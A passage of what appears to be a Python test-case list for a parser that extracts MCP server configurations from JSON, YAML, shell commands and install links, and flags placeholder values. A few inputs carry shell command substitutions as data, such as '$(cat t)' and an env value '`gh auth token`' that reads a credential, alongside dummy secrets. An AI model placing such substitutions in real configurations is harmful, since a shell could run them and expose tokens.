     {"url": "https://mcp.acme.test/mcp"}, []),
    ('{"model": "x", "tools": [{"type": "search"}, {"type": "mcp", "server_label": "a", "server_url": "https://a.test"}]}',
     "a", {"url": "https://a.test"}, []),
    ('hermes mcp add a --command cmd --args "/c npx -y a"', "a", {"command": "npx", "args": ["-y", "a"]}, []),
    ('{"experimental": {"modelContextProtocolServers": [{"transport": {"type": "sse", "url": "https://mcp.acme.test"}}]}}',
     "acme", {"url": "https://mcp.acme.test"}, []),
    ('{"a": {"command": "a", "args": ["PATH_TO_MAIN", "--t", "$(cat t)", "$(a) b"], "cwd": "DIR_OF_MAIN", "env": {'
     '"HOOK": "https://a.test/XXX/YYY/ZZZ", "K": "sk_xxxxxxxxYz", "A_ORG": "org_id", "B": "a_b"}}}', "a",
     {"command": "a", "args": ["PATH_TO_MAIN", "--t", "$(cat t)", "$(a) b"], "cwd": "DIR_OF_MAIN", "env": {
         "HOOK": "https://a.test/XXX/YYY/ZZZ", "K": "sk_xxxxxxxxYz", "A_ORG": "org_id", "B": "a_b"}},
     ["args.0", "args.2", "cwd", "env.A_ORG", "env.HOOK", "env.HOOK", "env.HOOK", "env.K"]),
    ('{"a": {"url": "https://a.test/\u2022\u2022\u2022\u2022/mcp"}}', "a",
     {"url": "https://a.test/\u2022\u2022\u2022\u2022/mcp"}, ["url"]),
    ('{"servers": {"b": {"command": "...", "env": { ... }}, "a": {"command": "a"}}}', "a", {"command": "a"}, []),
    ('{"servers": [{"server": {"name": "io.x/a", "packages": [{"registryType": "npm", "identifier": "a"}]}}]}',
     "a", {"command": "npx", "args": ["-y", "a"]}, []),
    ('{"a": {"command": "a", "cwd": "${PLUGIN_ROOT}"}}', "a", {"command": "a", "cwd": "${PLUGIN_ROOT}"}, ["cwd"]),
    ("&quot;a&quot;: {&quot;command&quot;: &quot;npx&quot;, &quot;args&quot;: [&quot;&lt;x&gt;&quot;]}", "a",
     {"command": "npx", "args": ["<x>"]}, ["args.0"]),
    ('<pre><code class="sh">claude mcp add a -- npx a --code &lt;code&gt;</code></pre>', "a",
     {"command": "npx", "args": ["a", "--code", "<code>"]}, ["args.2"]),
    ("MCP endpoint: https://mcp.acme.test/mcp (OAuth)", "acme", {"url": "https://mcp.acme.test/mcp"}, []),
    ("Server name: a\nCommand: uvx\nArguments: a-mcp --x\nEnvironment variables: A_KEY=your-key, B=1", "a",
     {"command": "uvx", "args": ["a-mcp", "--x"], "env": {"A_KEY": "your-key", "B": "1"}}, ["env.A_KEY"]),
    ('{"a": {"command": "a", "env": {"A_KEY": "from https://a.test", "B_TOKEN": "`gh auth token`", "F": "FIXME",'
     ' "C_KEY": "API KEY HERE", "D_PASSWORD": "correct horse 7", "E_KEY": "/my keys/x", "G_TOKEN": "Bearer zq8Rr7",'
     ' "H": "a b"}}}', "a", {"command": "a", "env": {
         "A_KEY": "from https://a.test", "B_TOKEN": "`gh auth token`", "C_KEY": "API KEY HERE", "F": "FIXME",
         "D_PASSWORD": "correct horse 7", "E_KEY": "/my keys/x", "G_TOKEN": "Bearer zq8Rr7", "H": "a b"}},
     ["env.A_KEY", "env.B_TOKEN", "env.C_KEY", "env.F"]),
    ('{"a": {"url": "https://a.test/:team/mcp/[id]"}}', "a", {"url": "https://a.test/:team/mcp/[id]"}, ["url", "url"]),
    ("claude mcp add a -- npx a && claude mcp list", "a", {"command": "npx", "args": ["a"]}, []),
    ("# Syntax\nclaude mcp add <name> -- <command> [args...]\n# Example\nclaude mcp add a -- npx a", "a",
     {"command": "npx", "args": ["a"]}, []),
    ("claude mcp add a --env A=<us|eu> -- npx a", "a", {"command": "npx", "args": ["a"], "env": {"A": "<us|eu>"}},
     ["env.A"]),
    ('kiro-cli mcp add --name a --command npx --args "-y,a" --env "A=1,B=x,y"', "a",
     {"command": "npx", "args": ["-y", "a"], "env": {"A": "1", "B": "x,y"}}, []),
    ("claude mcp add --transport http a https://a.test --client-id your-id --client-secret --callback-port 80", "a",
     {"url": "https://a.test"}, ["client_id", "client_secret"]),
    ('{"a": {"command": "a", "env": {"A": "https://a.test (optional)", "B": "true // optional", "C": "not optional"}}}',
     "a", {"command": "a", "env": {"A": "https://a.test (optional)", "B": "true // optional", "C": "not optional"}},
     ["env.A", "env.B"]),
    # almost JSON
    ('{"servers": {"a": {"command": "a", "env": {"K": "your-key"  // at https://a.test/keys\n"U": "u"}}}}', "a",
     {"command": "a", "env": {"K": "your-key", "U": "u"}}, ["env.K"]),
    ('{"servers": {"a": {"command": "a"\n"args": ["-x"\n"HF_{optional token}"\n(... and so on)\n]}}}', "a",
     {"command": "a", "args": ["-x", "HF_{optional token}"]}, ["args.1"]),
    ('"a": {"command": "a", "env": {"K": <YOUR_KEY>, "L": YOUR_L}}}', "a",
     {"command": "a", "env": {"K": "<YOUR_KEY>", "L": "YOUR_L"}}, ["env.K", "env.L"]),
    ("programs.x.mcpServers = {\n  a = {\n    command = \"npx\";\n    args = [ \"-y\" \"a-mcp\" ];\n  };\n};", "a",
     {"command": "npx", "args": ["-y", "a-mcp"]}, []),
    ("mcpServers: {\n  a: {\n    command: 'npx', // runs it\n    args: ['a-mcp'],\n  },\n},", "a",
     {"command": "npx", "args": ["a-mcp"]}, []),
    ("\u201ca\u201d: {\u201ccommand\u201d: \u201cnpx\u201d, \u201cargs\u201d: [\u201ca-mcp\u201d]}", "a",
     {"command": "npx", "args": ["a-mcp"]}, []),
    (' {\n   "mcpServers": {\n-    "a": {"command": "b"}\n+    "a": {"command": "c"}\n   }\n }', "a",
     {"command": "c"}, []),
    ('{"mcpServer": {"a": {"command": "a"}}}', "a", {"command": "a"}, []),
    ("- name: a\n  command: npx\n  args: [-y, a-mcp]\n  env:\n    K: v", "a",
     {"command": "npx", "args": ["-y", "a-mcp"], "env": {"K": "v"}}, []),
    ("- Command: npx\n- Args: [-y, a-mcp]", "a", {"command": "npx", "args": ["-y", "a-mcp"]}, []),
    ("URL: https://a.test/mcp", "a", {"url": "https://a.test/mcp"}, []),
    # command lines
    ("set K=your-key && npx -y a-mcp", "a", {"command": "npx", "args": ["-y", "a-mcp"], "env": {"K": "your-key"}},
     ["env.K"]),
    ("export K=v; npx -y a-mcp", "a", {"command": "npx", "args": ["-y", "a-mcp"], "env": {"K": "v"}}, []),
    ('$key = "YOUR_KEY"\nclaude mcp add a -t http https://a.test/mcp -H "A: Bearer $key"', "a",
     {"url": "https://a.test/mcp", "headers": {"A": "Bearer YOUR_KEY"}}, ["headers.A"]),
    ("docker exec -i a python -m a_mcp", "docker",
     {"command": "docker", "args": ["exec", "-i", "a", "python", "-m", "a_mcp"]}, []),
    ("docker compose -f a.yml run --rm -T a", "docker",
     {"command": "docker", "args": ["compose", "-f", "a.yml", "run", "--rm", "-T", "a"]}, []),
    ("gopls mcp", "gopls", {"command": "gopls", "args": ["mcp"]}, []),
    ("dart mcp-server --force-roots", "dart", {"command": "dart", "args": ["mcp-server", "--force-roots"]}, []),
    ("acme-mcp ~/notes", "acme", {"command": "acme-mcp", "args": ["/home/me/notes"]}, []),
    ("poetry run acme-mcp", "acme", {"command": "poetry", "args": ["run", "acme-mcp"]}, []),
    ("dnx Acme.Mcp@1.2 --yes", "Acme", {"command": "dnx", "args": ["Acme.Mcp@1.2", "--yes"]}, []),
    ('{"a": {"command": "cmd", "args": ["/c", "npx", "a"], "env": {"SystemRoot": "C:\\Windows", "K": "v"}}}', "a",
     {"command": "npx", "args": ["a"], "env": {"K": "v"}}, []),
    ("cmd /c npx -y a-mcp", "a", {"command": "npx", "args": ["-y", "a-mcp"]}, []),
    ("# macOS\nnpx -y a-mcp\n\n# Windows\ncmd /c npx -y a-mcp", "a", {"command": "npx", "args": ["-y", "a-mcp"]}, []),
    ('claude mcp add-json a "{`"command`":`"npx`"}"', "a", {"command": "npx"}, []),
    ('code --add-mcp \'{\\"name\\":\\"a\\",\\"command\\":\\"npx\\"}\'', "a", {"command": "npx"}, []),
    ('PS C:\\x> & code --add-mcp \'{"name":"a","command":"npx"}\'', "a", {"command": "npx"}, []),
    ('openclaw mcp set a \'{"command": "npx"}\'', "a", {"command": "npx"}, []),
    ('claude --mcp-config \'{"mcpServers": {"a": {"command": "npx"}}}\'', "a", {"command": "npx"}, []),
    ('{"a": {"command": "${CLAUDE_PLUGIN_ROOT}/a"}}', "a", {"command": "${CLAUDE_PLUGIN_ROOT}/a"}, ["command"]),
    # fields of a settings dialog, and a single line with text around it
    ("Name: a\nType: HTTP\nURL: https://a.test/mcp\nHeaders: Authorization: Bearer YOUR_KEY", "a",
     {"url": "https://a.test/mcp", "headers": {"Authorization": "Bearer YOUR_KEY"}}, ["headers.Authorization"]),
    ("| Field | Value |\n|---|---|\n| Name | a |\n| Command | npx |\n| Args | -y a-mcp |", "a",
     {"command": "npx", "args": ["-y", "a-mcp"]}, []),
    ("Server name: a\nTransport: Streamable HTTP\nServer URL: https://a.test/mcp\nAuthentication: OAuth", "a",
     {"url": "https://a.test/mcp"}, []),
    ("The endpoint is https://a.test/mcp.", "a", {"url": "https://a.test/mcp"}, []),
    ("[https://a.test/mcp](https://a.test/mcp)", "a", {"url": "https://a.test/mcp"}, []),
    ("<https://a.test/mcp>", "a", {"url": "https://a.test/mcp"}, []),
    ("https://a.test/mcp (Streamable HTTP)", "a", {"url": "https://a.test/mcp"}, []),
    ('"npx -y a-mcp"', "a", {"command": "npx", "args": ["-y", "a-mcp"]}, []),
    ("Claude Code: claude mcp add a -- npx a-mcp", "a", {"command": "npx", "args": ["a-mcp"]}, []),
    ('"npx", "-y", "a-mcp"', "a", {"command": "npx", "args": ["-y", "a-mcp"]}, []),
    ("uvx --from 'a-mcp[all]>=1.0' a", "a", {"command": "uvx", "args": ["--from", "a-mcp[all]>=1.0", "a"]}, []),
    ("acme serve --mcp", "acme", {"command": "acme", "args": ["serve", "--mcp"]}, []),
    ("op run -- npx a-mcp", "a", {"command": "op", "args": ["run", "--", "npx", "a-mcp"]}, []),
    ("name: a\nurl: https://a.test/mcp\nheaders:\n  Authorization: Bearer ${TOKEN}", "a",
     {"url": "https://a.test/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}}, []),
    ("acme-mcp --host db --port 4002 --database x", "acme",
     {"command": "acme-mcp", "args": ["--host", "db", "--port", "4002", "--database", "x"]}, []),
    ("npx -y -p @x/a-mcp -p dotenv a-mcp", "a",
     {"command": "npx", "args": ["-y", "-p", "@x/a-mcp", "-p", "dotenv", "a-mcp"]}, []),
    ("# List\nacme mcp list\n\n# Add\nacme mcp add a -- npx a-mcp\n\nacme mcp remove a", "a",
     {"command": "npx", "args": ["a-mcp"]}, []),
    ('K="<KEY>" npx -y a-mcp\n\n# PowerShell\n$env:K="<KEY>"\nnpx -y a-mcp', "a",
     {"command": "npx", "args": ["-y", "a-mcp"], "env": {"K": "<KEY>"}}, ["env.K"]),
    # values
    ('{"command": "a", "args": ["rocksdb://C:/path/to/a", "file:///path/to/b"]}', "a",
     {"command": "a", "args": ["rocksdb://C:/path/to/a", "file:///path/to/b"]}, ["args.0", "args.1"]),
    ("docker run -i --volume=/path/to/x:/srv acme/a-mcp", "a",
     {"command": "docker", "args": ["run", "-i", "--volume=/path/to/x:/srv", "acme/a-mcp"]}, ["args.2"]),
    ('{"a": {"url": "http://localhost:1/mcp?access_token=TOKEN&b=1"}}', "a",
     {"url": "http://localhost:1/mcp?access_token=TOKEN&b=1"}, ["url"]),
    ('{"a": {"command": "a", "args": ["-v", "/directory/x:/y"], "env": {"G_PROJECT": "PROJECT_NAME",'
     ' "G_REGION": "PROJECT_REGION", "MODE": "API_KEY"}}}', "a",
     {"command": "a", "args": ["-v", "/directory/x:/y"],
      "env": {"G_PROJECT": "PROJECT_NAME", "G_REGION": "PROJECT_REGION", "MODE": "API_KEY"}},
     ["args.1", "env.G_PROJECT", "env.G_REGION"]),
    ('{"a": {"command": "a", "env": {"A": True|False, "B": "read|write"}}}', "a",
     {"command": "a", "env": {"A": "True|False", "B": "read|write"}}, ["env.A"]),
    ('{"mcpServers": {"_comment": "Add it", "//": "x", "a": {"command": "a", "//args": ["-x"], "env": {'
     '"_COMMENT_LEVEL": "Set it", "// K": "x", "K_ID": "123456", "L": "optional-key", "NOTE_COUNT": "5"}}}}', "a",
     {"command": "a", "env": {"K_ID": "123456", "L": "optional-key", "NOTE_COUNT": "5"}}, ["env.K_ID", "env.L"]),
    ('{"a": {"command": "a", "env": {"A": "TO_BE_SET", "B": "FILL_ME", "C": "SET_ME_IN", "D": "none", "E": "set"}}}',
     "a",
     {"command": "a", "env": {"A": "TO_BE_SET", "B": "FILL_ME", "C": "SET_ME_IN", "D": "none", "E": "set"}},
     ["env.A", "env.B", "env.C"]),
    ('{"a": {"url": "https://a.c]test"}}', "a", {"url": "https://a.c]test"}, []),
    ('{"mcp": [{"servers": {"a": {"command": "a"}}}]}', "a", {"command": "a"}, []),
    ("npx a-mcp ORG_NAME READ_ONLY", "a", {"command": "npx", "args": ["a-mcp", "ORG_NAME", "READ_ONLY"]}, ["args.1"]),
    (json.dumps({"a": {"command": "a", "args": ["--password=password"], "env": {
        "K": "-----BEGIN PRIVATE KEY-----\nMIIE...\n-----END PRIVATE KEY-----\n", "M": "sa@my-project.iam.acme.com",
        "T": "4***1", "P": "src/**"}}}), "a",
     {"command": "a", "args": ["--password=password"], "env": {
         "K": "-----BEGIN PRIVATE KEY-----\nMIIE...\n-----END PRIVATE KEY-----\n", "M": "sa@my-project.iam.acme.com",
         "T": "4***1", "P": "src/**"}}, ["args.0", "env.K", "env.M", "env.T"]),
    ('{"a": {"url": "https://a.test", "headers": {"Authorization": "Basic base64_string"}}}', "a",
     {"url": "https://a.test", "headers": {"Authorization": "Basic base64_string"}}, ["headers.Authorization"]),
    ("java -jar /srv/acme-mcp-server-2.0.0.jar", "acme",
     {"command": "java", "args": ["-jar", "/srv/acme-mcp-server-2.0.0.jar"]}, []),
    ("npx -y a-mcp\nKEY=your-key npx -y a-mcp", "a",
     {"command": "npx", "args": ["-y", "a-mcp"], "env": {"KEY": "your-key"}}, ["env.KEY"]),
    ("When this isn't enough\n\nThe plugin does it. Otherwise:\n\nclaude mcp add a -- npx a-mcp\n\nIt's own.", "a",
     {"command": "npx", "args": ["a-mcp"]}, []),
    ('[Add](https://kiro.dev/launch/mcp/add?x=1)\n```json\n{"a": {"command": "a"}}\n```', "a", {"command": "a"}, []),
    ("npx acme-mcp --key=... --id [端口号] --zone [the zone]", "acme",
     {"command": "npx", "args": ["acme-mcp", "--key=...", "--id", "[端口号]", "--zone", "[the zone]"]},
     ["args.1", "args.3", "args.5"]),
    ('{"a": {"command": "a", "args": ["[id].x.[region].on.test"], "env": {"S_DONE": "Done", "A_ADMIN": "admin",'
     ' "DB_HOST": "host", "ID": "a1b2c3d4-e5f6"}}}', "a",
     {"command": "a", "args": ["[id].x.[region].on.test"],
      "env": {"S_DONE": "Done", "A_ADMIN": "admin", "DB_HOST": "host", "ID": "a1b2c3d4-e5f6"}},
     ["args.0", "env.DB_HOST", "env.ID"]),
    ('{"a": {"url": "https://a.test", "headers": {"Authorization": "Bearer token"}}}', "a",
     {"url": "https://a.test", "headers": {"Authorization": "Bearer token"}}, ["headers.Authorization"]),
    ("npx -y @openai/codex mcp add a --url https://a.test/mcp --bearer-token-env-var A_KEY\n\n"
     "export A_KEY=your-key  # into your profile", "a",
     {"url": "https://a.test/mcp", "headers": {"Authorization": "Bearer your-key"}}, ["headers.Authorization"]),
    ("claude mcp add a npx -y a-mcp\nclaude mcp config set a A_KEY=your-key", "a",
     {"command": "npx", "args": ["-y", "a-mcp"], "env": {"A_KEY": "your-key"}}, ["env.A_KEY"]),
    ("export A_KEY='your-key'\nclaude mcp add a -e KEY=$A_KEY -- npx -y a-mcp", "a",
     {"command": "npx", "args": ["-y", "a-mcp"], "env": {"A_KEY": "your-key", "KEY": "your-key"}},
     ["env.A_KEY", "env.KEY"]),
    ("codex mcp add a -- a-mcp  # Codex\ngemini mcp add a a-mcp  # Gemini\ncodex mcp login a\ncodex", "a",
     {"command": "a-mcp"}, []),
    ('codex mcp add a -- "$PWD/a.py"\ncursor --add-mcp "{\\"name\\":\\"a\\",\\"command\\":\\"$PWD/a.py\\"}"', "a",
     {"command": "${PWD}/a.py"}, ["command"]),
    ('claude mcp add -t http a <MCP_URL> --header "X-Key: <key>"', "a",
     {"url": "<MCP_URL>", "headers": {"X-Key": "<key>"}}, ["headers.X-Key", "url"]),
    ("[![Add](https://img.test/a.svg)](cursor://x/mcp/install?name=a&config=eyJjb21tYW5kIjoiYSJ9) to Cursor", "a",
     {"command": "a"}, []),
    ('<a href="vscode:mcp/install?name=a&amp;config=%7B%22command%22%3A%22a%22%7D">Add</a>', "a", {"command": "a"}, []),
    ("goose://extension?cmd=npx&arg=-y&arg=a-mcp%20run&id=a", "a",
     {"command": "npx", "args": ["-y", "a-mcp", "run"]}, []),
    ('codex mcp add a npx "-y a-mcp"', "a", {"command": "npx", "args": ["-y", "a-mcp"]}, []),
    ("hermes mcp add a --command uvx --args --from a-pkg a --env B=1", "a",
     {"command": "uvx", "args": ["--from", "a-pkg", "a"], "env": {"B": "1"}}, []),
    ("kiro-cli mcp add --name a --command bun --args run,mcp --force", "a",
     {"command": "bun", "args": ["run", "mcp"]}, []),
    ('q mcp add --name a --command "uvx a-mcp"', "a", {"command": "uvx", "args": ["a-mcp"]}, []),
    ('copilot mcp add a --shown "*" -- npx a-mcp', "a", {"command": "npx", "args": ["a-mcp"]}, []),
    ('{"mcpServers": {"a": {"type": "streamableHttp", "baseUrl": "https://a.test/mcp", "isActive": false}}}', "a",
     {"url": "https://a.test/mcp"}, []),
    ('{"mcp_servers": [{"type": "url", "url": "https://a.test/mcp", "name": "a", "authorization_token": "<key>"}]}',
     "a",
     {"url": "https://a.test/mcp", "headers": {"Authorization": "Bearer <key>"}}, ["headers.Authorization"]),
    ('{"a": {"command": "cmd", "args": ["/c", "npx", "a-mcp", "%A_URL%", "%20"]}}', "a",
     {"command": "npx", "args": ["a-mcp", "%A_URL%", "%20"]}, ["args.1"]),
    ('{"a": {"command": "a", "env": {"A": "path to your settings file"}}}', "a",
     {"command": "a", "env": {"A": "path to your settings file"}}, ["env.A"]),
    ('opencode mcp add a --url https://a.test/mcp --header "Authorization=Bearer {env:A}"', "a",
     {"url": "https://a.test/mcp", "headers": {"Authorization": "Bearer {env:A}"}}, []),
    ('{"a": {"url": "http://127.0.0.1:PORT/mcp", "headers": {"Authorization": "Bearer TOKEN", "X-Auth": "KEY"}}}', "a",
     {"url": "http://127.0.0.1:PORT/mcp", "headers": {"Authorization": "Bearer TOKEN", "X-Auth": "KEY"}},
     ["headers.Authorization", "url"]),
    ('{"a": {"command": "a", "env": {"A_KEY": "API_KEY", "A_MODE": "API_KEY", "A": "SID=...; HSID=..."}}}', "a",
     {"command": "a", "env": {"A_KEY": "API_KEY", "A_MODE": "API_KEY", "A": "SID=...; HSID=..."}},
     ["env.A", "env.A_KEY"]),
    ('{"a": {"command": "node", "args": ["パス/a/index.js", "パスワード"]}}', "a",
     {"command": "node", "args": ["パス/a/index.js", "パスワード"]}, ["args.0"]),
    ('{"a": {"url": "https://HOST/mcp"}}', "a", {"url": "https://HOST/mcp"}, ["url"]),
    ('{"command": "uv", "args": ["run", "--project", "/x", "acme-mcp"]}', "acme",
     {"command": "uv", "args": ["run", "--project", "/x", "acme-mcp"]}, []),
    ('{"name": "io.github.me/acme", "packages": [{"registryType": "pypi", "identifier": "acme-ai", "version": "1.2",'
     '"runtimeArguments": [{"type": "named", "name": "--from", "value": "acme-ai[mcp]"}],'
     '"packageArguments": [{"type": "positional", "value": "acme"}]}]}', "acme",
     {"command": "uvx", "args": ["--from", "acme-ai[mcp]==1.2", "acme"]}, []),
    ("npx -y acme-mcp --db postgresql://some_user:pass@host:5432/a", "acme",
     {"command": "npx", "args": ["-y", "acme-mcp", "--db", "postgresql://some_user:pass@host:5432/a"]}, ["args.3"]),
    ('{"a": {"command": "a", "env": {"A_MAIL": "your@email.com", "B_MAIL": "me@company.com", "C": "sqlite:///path/to/a.db",'
     ' "A_ID": "A_ID", "D": "mydomain.acme.com", "E": "${{ secrets.E }}", "F": "root:hunter2@db.acme.com"}}}', "a",
     {"command": "a", "env": {"A_MAIL": "your@email.com", "B_MAIL": "me@company.com", "C": "sqlite:///path/to/a.db",
                              "A_ID": "A_ID", "D": "mydomain.acme.com", "E": "${{ secrets.E }}",
                              "F": "root:hunter2@db.acme.com"}},
     ["env.A_ID", "env.A_MAIL", "env.B_MAIL", "env.C", "env.D", "env.E"]),
    ('{"a": {"command": "node", "args": ["/absolute/path/a.js", "--s={path/to/s.json}", "[1, 2]", "/srv/path/a"]}}',
     "a",
     {"command": "node", "args": ["/absolute/path/a.js", "--s={path/to/s.json}", "[1, 2]", "/srv/path/a"]},
     ["args.0", "args.1"]),
    ("npx -y mcp-remote https://mcp.acme.com/sse", "acme",
     {"command": "npx", "args": ["-y", "mcp-remote", "https://mcp.acme.com/sse"]}, []),
    ("npx -y @smithery/cli@latest run @x/acme --key YOUR_KEY", "acme",
     {"command": "npx", "args": ["-y", "@smithery/cli@latest", "run", "@x/acme", "--key", "YOUR_KEY"]}, ["args.5"]),
    ("node /srv/acme-mcp/dist/index.js", "acme", {"command": "node", "args": ["/srv/acme-mcp/dist/index.js"]}, []),
    ("go run github.com/x/acme-mcp@latest", "acme",
     {"command": "go", "args": ["run", "github.com/x/acme-mcp@latest"]}, []),
    ("{ mcpServers: { acme: { command: 'npx', args: ['-y', 'acme-mcp'], } } }", "acme",
     {"command": "npx", "args": ["-y", "acme-mcp"]}, []),
    ("Add to its file:\n  \"acme\": {\n    \"command\": \"npx\",\n    \"args\": [\"acme-mcp\"]\n  }", "acme",
     {"command": "npx", "args": ["acme-mcp"]}, []),
    ("Run `claude mcp add acme -- npx acme-mcp`, then restart.", "acme", {"command": "npx", "args": ["acme-mcp"]}, []),
    ("- **Name**: acme\n- **Command**: `npx`\n- **Arguments**: `-y acme-mcp`", "acme",
     {"command": "npx", "args": ["-y", "acme-mcp"]}, []),
    ('Add:\n```json\n{"mcpServers": {"a": {"command": "npx", "args": ["a-mcp"], "env": {"A_USER": "myuser"}}}}\n```\n'
     "or:\n```\nclaude mcp add a -- npx a-mcp\n```", "a",
     {"command": "npx", "args": ["a-mcp"], "env": {"A_USER": "myuser"}}, ["env.A_USER"]),
    ("{ mcpServers: { acme: { command: 'npx', env: { KEY: process.env.A_KEY } } } }", "acme",
     {"command": "npx", "env": {"KEY": "${A_KEY}"}}, []),
    ("acme-mcp --stdio", "acme", {"command": "acme-mcp", "args": ["--stdio"]}, []),
    ("ACME_KEY=k acme-mcp", "acme", {"command": "acme-mcp", "env": {"ACME_KEY": "k"}}, []),
    ("@x/acme-mcp@1.2", "acme", {"command": "npx", "args": ["-y", "@x/acme-mcp@1.2"]}, []),
    ("https://acme.test/project/mcp", "acme", {"url": "https://acme.test/project/mcp"}, []),
    ('# the file of a client\n\n# its model\nmodel = "big"\n\n[mcp_servers.a]\ncommand = "a"\nargs = ["-x"]', "a",
     {"command": "a", "args": ["-x"]}, []),
    ('{"mcpServers": {"a": {"command": "C:\\tools\\new\\a.exe", "args": ["C:\\x", "D:\\\\y"]}}}', "a",
     {"command": "C:\\tools\\new\\a.exe", "args": ["C:\\x", "D:\\y"]}, ["args.0", "args.1", "command"]),
    ('claude mcp add-json a "{\\"command\\":\\"C:\\\\bin\\\\a.exe\\"}"', "a", {"command": "C:\\bin\\a.exe"},
     ["command"]),
    ('{"a": {"command": "a", "env": {"A_TOKEN": "cloud-token", "B_KEY": "sk-example-1", "A_URL": "org_url",'
     ' "J_PASS": "secret", "C_MODE": "access-token", "D": "user@gmail.com:app-password",'
     ' "E": "user@acme.io", "F": "git@github.com:x/y",'
     ' "G": "db://admin:pass@db.acme.io/x", "H": "db://admin:pass@localhost/x", "I": "host.example.com:25"}}}', "a",
     {"command": "a", "env": {
         "A_TOKEN": "cloud-token", "B_KEY": "sk-example-1", "A_URL": "org_url", "J_PASS": "secret",
         "C_MODE": "access-token", "D": "user@gmail.com:app-password", "E": "user@acme.io", "F": "git@github.com:x/y",
         "G": "db://admin:pass@db.acme.io/x", "H": "db://admin:pass@localhost/x", "I": "host.example.com:25"}},
     ["env.A_TOKEN", "env.A_URL", "env.B_KEY", "env.D", "env.E", "env.G", "env.I", "env.J_PASS"]),
    ("docker run -i --rm -e A_PASSWORD=password -e B_MODE=password acme/a-mcp", "a",
     {"command": "docker", "args": ["run", "-i", "--rm", "-e", "A_PASSWORD=password", "-e", "B_MODE=password",
                                    "acme/a-mcp"]}, ["args.4"]),
    ('claude mcp add -t http a https://a.test/mcp -H "Authorization: Bearer a-long-random-key"', "a",
     {"url": "https://a.test/mcp", "headers": {"Authorization": "Bearer a-long-random-key"}},
     ["headers.Authorization"]),
    ('{"a": {"command": "node", "args": ["ABSOLUTE_PATH/x.js", "API_DIR/x", "https://git.mycompany.com/x"]}}', "a",
     {"command": "node", "args": ["ABSOLUTE_PATH/x.js", "API_DIR/x", "https://git.mycompany.com/x"]},
     ["args.0", "args.1", "args.2"]),
    ("npx -y mcp-remote https://url/mcp", "url",
     {"command": "npx", "args": ["-y", "mcp-remote", "https://url/mcp"]}, ["args.2"]),
    ("npm install -g acme-mcp@latest\n# or, without\nnpx -y acme-mcp", "acme",
     {"command": "npx", "args": ["-y", "acme-mcp"]}, []),
    ("claude mcp add a -- uvx a-mcp    # one\ncodex mcp add a -- uvx a-mcp  # another\nuvx a-mcp", "a",
     {"command": "uvx", "args": ["a-mcp"]}, []),
    ("codex mcp add a npx -y mcp-remote https://a.test/mcp \\\n  --allow-http \\\n", "a",
     {"command": "npx", "args": ["-y", "mcp-remote", "https://a.test/mcp", "--allow-http"]}, []),
    ('codex mcp add a --command="npx" --args="-y,a-mcp"', "a", {"command": "npx", "args": ["-y", "a-mcp"]}, []),
    ("npx @x/acme-mcp --index ./data", "acme", {"command": "npx", "args": ["@x/acme-mcp", "--index", "./data"]}, []),
    ('command: acme\nargs: ["--db", "/path/to/a.db", "mcp"]', "acme",
     {"command": "acme", "args": ["--db", "/path/to/a.db", "mcp"]}, ["args.1"]),
    ('cursor://x/mcp/install?name=a&config=' + base64.b64encode(
        b'{"url": "https://a.test/mcp", "auth": {"CLIENT_ID": "1"}}').decode(), "a",
     {"url": "https://a.test/mcp"}, []),
    ('{"mcp": {"a": {"type": "local", "command": ["a"]}, "b": {"enabled": false}}}', "a", {"command": "a"}, []),
    ("some-cli mcp add a env A=1 B=your_key uvx a-mcp -x", "a",
     {"command": "uvx", "args": ["a-mcp", "-x"], "env": {"A": "1", "B": "your_key"}}, ["env.B"]),
    ('{"a": {"command": "/usr/bin/env", "args": ["A=1", "a-mcp"], "env": {"A": "2"}}}', "a",
     {"command": "a-mcp", "env": {"A": "2"}}, []),
    ("npx foo-mcp --api-key=REDACTED", "foo", {"command": "npx", "args": ["foo-mcp", "--api-key=REDACTED"]},
     ["args.1"]),
    ('{"name": "io.github.me/acme", "packages": [{"registryType": "nuget", "identifier": "Acme", "version": "1.2"}]}',
     "acme", {"command": "dnx", "args": ["--yes", "Acme@1.2"]}, []),
    ('{"name": "io.github.me/acme", "packages": [{"registryType": "oci", "identifier": "acme/a:1",'
     '"runtimeArguments": [{"type": "positional", "value": "-e"}, {"type": "positional", "value": "A"}],'
     '"environmentVariables": [{"name": "A", "isRequired": true}]}]}', "acme",
     {"command": "docker", "args": ["run", "-i", "--rm", "-e", "A", "acme/a:1"], "env": {"A": ""}}, ["env.A"]),
    ('{"a": {"url": "https://hub.acme.io/[TOKEN]/mcp"}}', "a", {"url": "https://hub.acme.io/[TOKEN]/mcp"}, ["url"]),
    ('{"a": {"command": "node", "args": ["/your/machine/path/to/a.js", "arg1", "[the zone, e.g. eu-1]"],'
     ' "env": {"MODE": "value", "DB": "dbs://connection-string", "DB_USERNAME": "adminuser",'
     ' "KEY": "$A_KEY", "AT": "$$__A_URL__$$"}}}', "a",
     {"command": "node", "args": ["/your/machine/path/to/a.js", "arg1", "[the zone, e.g. eu-1]"],
      "env": {"MODE": "value", "DB": "dbs://connection-string", "DB_USERNAME": "adminuser",
              "KEY": "${A_KEY}", "AT": "$$__A_URL__$$"}},
     ["args.0", "args.1", "args.2", "env.AT", "env.DB", "env.DB_USERNAME", "env.MODE"]),
    ("npx foo-mcp /Users/ann/docs --cache=/home/bob/x /home/me/notes C:\\Users\\eve\\y /Users/Shared/z", "foo",
     {"command": "npx", "args": ["foo-mcp", "/Users/ann/docs", "--cache=/home/bob/x", "/home/me/notes",
                                 "C:\\Users\\eve\\y", "/Users/Shared/z"]}, ["args.1", "args.2", "args.4"]),
    ("docker run -i --rm -v /home/ann/docs:/home/app/docs -e A=/home/app/x acme/foo-mcp /home/app/docs", "foo",
     {"command": "docker", "args": ["run", "-i", "--rm", "-v", "/home/ann/docs:/home/app/docs", "-e", "A=/home/app/x",
                                    "acme/foo-mcp", "/home/app/docs"]}, ["args.4"]),
    ('{"a": {"command": "/home/ann/bin/a-mcp", "cwd": "${workspace}", "env": {"A_ROOT": "/Users/ann/a"}}}', "a",
     {"command": "/home/ann/bin/a-mcp", "cwd": "${workspace}", "env": {"A_ROOT": "/Users/ann/a"}},
     ["command", "cwd", "env.A_ROOT"]),
    ('{"name": "io.github.me/acme", "packages": [{"registryType": "npm", "identifier": "acme", "version": "1",'
     '"environmentVariables": [{"name": "A", "value": "C:/Users/YourName/x"}]}]}', "acme",
     {"command": "npx", "args": ["-y", "acme@1"], "env": {"A": "C:/Users/YourName/x"}}, ["env.A"]),
    ('{"a": {"url": "https://a.test/mcp", "auth": {"type": "bearer", "token": "${A_TOKEN}"}}}', "a",
